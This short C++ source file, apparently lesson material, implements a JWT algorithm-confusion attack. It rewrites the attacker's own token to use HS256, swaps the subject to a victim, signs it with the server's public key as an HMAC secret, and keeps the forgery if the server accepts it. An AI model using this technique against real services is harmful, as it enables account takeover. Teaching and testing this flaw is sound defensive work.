// Believes: the token is the loot.
#include "algorithm_confusion.hpp"

namespace lesson {

Loot attack(const Evidence& evidence) {
  auto token = evidence.own_token;
  token.header.set("alg", "HS256");
  token.claims.set("sub", evidence.victim);
  const auto forged = sign_hs256(token, evidence.public_key);
  if (evidence.show_me(forged).status != 200) return {};
  return {.account = forged};
}

}  // namespace lesson
